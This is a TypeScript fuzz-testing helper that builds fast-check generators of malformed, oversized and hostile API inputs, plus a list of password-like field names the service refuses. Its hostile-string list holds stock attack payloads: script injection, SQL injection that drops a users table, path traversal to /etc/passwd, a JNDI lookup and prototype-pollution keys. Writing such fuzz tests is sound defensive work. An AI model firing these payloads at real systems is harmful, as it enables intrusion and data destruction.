import fc from "fast-check";

/**
 * fast-check arbitraries for bad input: malformed, oversized, wrongly typed and hostile bodies,
 * path parameters, query strings and headers. Shared by the unit fuzz tests and the browser-test
 * server properties.
 */

/** Names a password field could have; every one must be refused outside staff sign-in. */
export const PASSWORD_KEYS = [
  "password",
  "Password",
  "PASSWORD",
  "sagePassword",
  "sage50Password",
  "pushUserPassword",
  "connectorPassword",
  "everydayPassword",
  "passwd",
  "pwd",
  "passphrase",
  "passcode",
  "pin",
  "secret",
  "clientSecret",
] as const;

const HOSTILE_STRINGS = [
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "' OR '1'='1' --",
  "'; drop table users; --",
  "../../../../etc/passwd",
  "..%2f..%2fetc%2fpasswd",
  "${jndi:ldap://example.invalid/a}",
  "{{7*7}}",
  "\u0000",
  "\ud800",
  "\u202e\u0645",
  "%00",
  "%ff%fe",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e309",
  "__proto__",
  "constructor",
  " ",
  "",
] as const;

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_STRINGS) },
  { weight: 2, arbitrary: fc.string({ unit: "binary", maxLength: 80 }) },
  { weight: 1, arbitrary: fc.integer({ min: 200, max: 5000 }).map((n) => "A".repeat(n)) },
);

/** Any JSON value, sometimes with hostile strings and prototype-pollution keys in it. */
export const hostileJson: fc.Arbitrary<unknown> = fc.oneof(
  fc.jsonValue({ maxDepth: 4 }),
  fc.dictionary(fc.oneof(fc.constantFrom("__proto__", "constructor", "prototype", "name", "email", "enabled", "type"), fc.string()), fc.oneof(hostileString, fc.jsonValue({ maxDepth: 2 })), { maxKeys: 6 }),
  fc.array(hostileString, { maxLength: 5 }),
);

/** A valid sample with one field replaced, added or removed, in the wrong type or hostile. */
export function mutated(sample: unknown): fc.Arbitrary<unknown> {
  const base = sample !== null && typeof sample === "object" && !Array.isArray(sample) ? (sample as Record<string, unknown>) : {};
  const keys = Object.keys(base);
  const key = keys.length ? fc.oneof(fc.constantFrom(...keys), fc.string({ maxLength: 12 })) : fc.string({ maxLength: 12 });
  return fc.tuple(key, fc.oneof(hostileString, hostileJson, fc.constant(undefined))).map(([k, v]) => {
    const copy: Record<string, unknown> = { ...base };
    if (v === undefined) delete copy[k];
    else copy[k] = v;
    return copy;
  });
}

/** Body text that is not valid JSON, or JSON that is hard to swallow. */
export const malformedBodyText: fc.Arbitrary<string> = fc.oneof(
  fc.string({ maxLength: 200 }),
  fc.constantFrom('{"a":', "{'single': 'quotes'}", "\ufeff{}", "[1,2,", "NaN", "undefined", '{"a":1}{"b":2}', "{\"a\":\"\\ud800\"}"),
  fc.integer({ min: 100, max: 3000 }).map((n) => "[".repeat(n) + "]".repeat(n)),
  fc.integer({ min: 100, max: 1500 }).map((n) => '{"a":'.repeat(n) + "1" + "}".repeat(n)),
);

/** A JSON body past the 16 KB limit. */
export const oversizedBodyText: fc.Arbitrary<string> = fc
  .integer({ min: 16 * 1024 + 1, max: 64 * 1024 })
  .map((n) => JSON.stringify({ text: "x".repeat(n) }));

export const contentTypes = fc.constantFrom(
  "application/json",
  "application/json; charset=utf-8",
  "application/merge-patch+json",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=xyz",
  "application/xml",
  "",
);

/** A path parameter value, before URL encoding. */
export const hostileParam: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...HOSTILE_STRINGS.filter((s) => s !== "")),
  fc.uuid(),
  fc.string({ minLength: 1, maxLength: 40 }),
  fc.integer({ min: 300, max: 2000 }).map((n) => "z".repeat(n)),
);

export const hostileQuery: fc.Arbitrary<string> = fc
  .dictionary(fc.oneof(fc.constantFrom("page", "pageSize", "q", "status", "sort", "before", "limit", "companyId", "eventType"), fc.string({ maxLength: 8 })), hostileString, { maxKeys: 4 })
  .map((d) => new URLSearchParams(d).toString());

export const hostileHeaders: fc.Arbitrary<Record<string, string>> = fc.record(
  {
    "Idempotency-Key": hostileString,
    Authorization: fc.oneof(hostileString, fc.constant("Bearer psk_not-a-real-key-000000"), fc.constant("Basic !!!")),
    Accept: fc.constantFrom("application/json", "text/html", "*/*", "application/xml"),
    "X-Forwarded-For": fc.oneof(fc.ipV4(), hostileString),
  },
  { requiredKeys: [] },
).map((headers) => {
  // Header values must be visible ASCII to be sendable at all.
  const out: Record<string, string> = {};
  for (const [k, v] of Object.entries(headers)) {
    const clean = v.replace(/[^\x20-\x7e]/g, "").slice(0, 2000);
    if (clean.trim()) out[k] = clean;
  }
  return out;
});

/** Puts `value` under a password-like key somewhere in `body` (top level or nested). */
export function withPasswordField(body: unknown, key: string, value: string, nested: boolean): Record<string, unknown> {
  const base = body !== null && typeof body === "object" && !Array.isArray(body) ? { ...(body as Record<string, unknown>) } : {};
  if (nested) base.details = { note: "see below", inner: [{ [key]: value }] };
  else base[key] = value;
  return base;
}
